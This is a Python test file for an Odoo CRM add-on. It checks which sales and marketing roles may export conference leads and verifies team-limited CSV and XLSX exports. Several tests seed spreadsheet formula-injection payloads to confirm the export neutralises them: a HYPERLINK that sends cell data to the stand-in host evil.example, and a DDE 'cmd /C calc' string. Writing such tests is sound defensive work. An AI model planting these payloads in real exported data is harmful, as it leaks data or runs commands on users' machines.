import base64
import csv
import io
import json

import openpyxl

from odoo import http
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from .common import ALL_ROLES, ConferenceCrmCase

FULL_EXPORT_ROLES = {"pd", "hm"}
TEAM_EXPORT_ROLES = {"se", "sse", "stl", "asm", "sm"}
DEFAULT_HEADER = ["First name", "Last name", "Job title", "Company"]


@tagged("post_install", "-at_install")
class TestExportRights(ConferenceCrmCase):
    def test_export_data_by_rpc(self):
        for role in ALL_ROLES:
            user = self.users[role]
            leads = self.env["crm.lead"].with_user(user).search([])
            with self.subTest(role=role):
                if role in FULL_EXPORT_ROLES:
                    rows = leads.export_data(["name", "email_from"])["datas"]
                    self.assertEqual(len(rows), len(leads))
                else:
                    with self.assertRaisesRegex(AccessError, "may not export leads"):
                        leads.export_data(["name"])
        rows = self.env["crm.lead"].with_user(self.admin).search([]).export_data(["name"])
        self.assertTrue(rows["datas"])

    def test_only_export_roles_get_the_export_button_group(self):
        for role in ALL_ROLES:
            with self.subTest(role=role):
                self.assertEqual(
                    self.users[role].has_group("crm_event_products.group_crm_full_export"),
                    role in FULL_EXPORT_ROLES,
                )
                self.assertEqual(
                    self.users[role].has_group("crm_event_products.group_crm_team_export"),
                    role in TEAM_EXPORT_ROLES,
                )


@tagged("post_install", "-at_install")
class TestTeamExport(ConferenceCrmCase):
    def _export(self, role, file_format="csv", team=None):
        wizard = self.env["crm.team.export.wizard"].with_user(self.users[role]).create(
            {"file_format": file_format, **({"team_id": team.id} if team else {})}
        )
        action = wizard.action_export()
        self.assertIn("/web/content/", action["url"])
        return base64.b64decode(wizard.data), wizard.filename

    def _expected_rows(self, team):
        leads = self.env["crm.lead"].search(
            [("team_id", "=", team.id), ("event_id", "=", team.crm_product_id.id)], order="id"
        )
        return [[lead.contact_first_name, lead.contact_last_name, lead.function,
                 lead.partner_name] for lead in leads]

    def test_csv_has_exactly_the_four_columns_of_the_team(self):
        content, filename = self._export("se")
        self.assertTrue(filename.endswith(".csv"))
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        self.assertEqual(rows[0], DEFAULT_HEADER)
        self.assertEqual(rows[1:], self._expected_rows(self.team_a))
        # the team's leads include colleagues' leads the executive cannot open himself
        self.assertIn(
            ["First-phone_a_team", "Last-phone_a_team", "Title phone_a_team", "Company phone_a_team"],
            rows[1:],
        )
        self.assertNotIn("Company phone_b_team", content.decode("utf-8-sig"))

    def test_xlsx_export(self):
        content, filename = self._export("stl", "xlsx")
        self.assertTrue(filename.endswith(".xlsx"))
        sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        self.assertEqual(rows[0], DEFAULT_HEADER)
        self.assertEqual(len(rows) - 1, len(self._expected_rows(self.team_a)))

    def _create_formula_lead(self):
        return self.env["crm.lead"].sudo().create(self._lead_vals(
            "formula", "phone_sales", self.product_a, "se2", self.team_a,
            contact_first_name='=HYPERLINK("https://evil.example/?x="&A1,"Click")',
            contact_last_name="@SUM(1+1)*cmd|' /C calc'!A0",
            function="+1+2",
            partner_name="-2+3",
        ))

    def test_csv_neutralises_formulas(self):
        self._create_formula_lead()
        self.env["crm.lead"].sudo().create([
            self._lead_vals(f"ctl{i}", "phone_sales", self.product_a, "se2", self.team_a,
                            contact_first_name=value, contact_last_name="Plain")
            for i, value in enumerate(("\tTab", "\rReturn"))
        ])
        content, _filename = self._export("se")
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        self.assertIn(
            ["'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
             "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+2", "'-2+3"],
            rows[1:],
        )
        first_names = [row[0] for row in rows[1:]]
        self.assertIn("'\tTab", first_names)
        self.assertIn("'\rReturn", first_names)
        for row in rows:
            for value in row:
                self.assertFalse(value.startswith(("=", "+", "-", "@", "\t", "\r")), value)

    def test_xlsx_writes_no_formula(self):
        self._create_formula_lead()
        content, _filename = self._export("se", "xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertIn('=HYPERLINK("https://evil.example/?x="&A1,"Click")',
                      [cell.value for cell in cells])
        self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])

    def test_refused_for_roles_without_team_export(self):
        for role in ("p", "pd", "jre", "hm"):
            with self.subTest(role=role), self.assertRaises(AccessError):
                self._export(role, team=self.team_a)

    def test_refused_for_another_team(self):
        with self.assertRaisesRegex(AccessError, "your own team"):
            self._export("se", team=self.team_b)

    def test_refused_when_product_not_active_for_team(self):
        self.team_a.crm_product_id = self.product_locked
        with self.assertRaisesRegex(UserError, "not active any more"):
            self._export("se")

    def test_columns_follow_the_administrator_setting(self):
        profile = self.env.ref("crm_event_products.export_profile_phone_sales")
        profile.line_ids.filtered(lambda l: l.label == "Job title").unlink()
        profile.line_ids = [(0, 0, {
            "sequence": 99, "label": "Email",
            "field_id": self.env.ref("crm.field_crm_lead__email_from").id,
        })]
        content, _filename = self._export("se")
        header = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        self.assertEqual(header, ["First name", "Last name", "Company", "Email"])


@tagged("post_install", "-at_install")
class TestWebExportController(HttpCase):
    """The web client's export route refuses roles without full export."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        product = cls.env["event.event"].create(
            {"name": "Export Fair", "date_begin": "2030-01-10 08:00:00",
             "date_end": "2030-01-11 18:00:00"}
        )
        cls.lead = cls.env["crm.lead"].create(
            {"name": "Exported lead", "event_id": product.id,
             "department_id": cls.env.ref("crm_event_products.crm_department_email_sales").id}
        )
        for login, group in (("web_se", "phone_se"), ("web_hm", "email_hm")):
            new_test_user(cls.env, login=login,
                          groups=f"base.group_user,crm_event_products.group_{group}")

    def _post_export(self, login):
        self.authenticate(login, login)
        data = json.dumps({
            "model": "crm.lead", "fields": [{"name": "name", "label": "Name"}],
            "ids": self.lead.ids, "domain": [], "import_compat": False,
        })
        return self.url_open(
            "/web/export/csv", data={"data": data, "csrf_token": http.Request.csrf_token(self)}
        )

    @mute_logger("odoo.addons.web.controllers.export", "odoo.http")
    def test_web_export_refused_for_sales_executive(self):
        response = self._post_export("web_se")
        self.assertNotEqual(response.status_code, 200)
        self.assertIn("may not export leads", response.text)

    def test_web_export_allowed_for_head_of_marketing(self):
        response = self._post_export("web_hm")
        self.assertEqual(response.status_code, 200)
        self.assertIn("Exported lead", response.text)
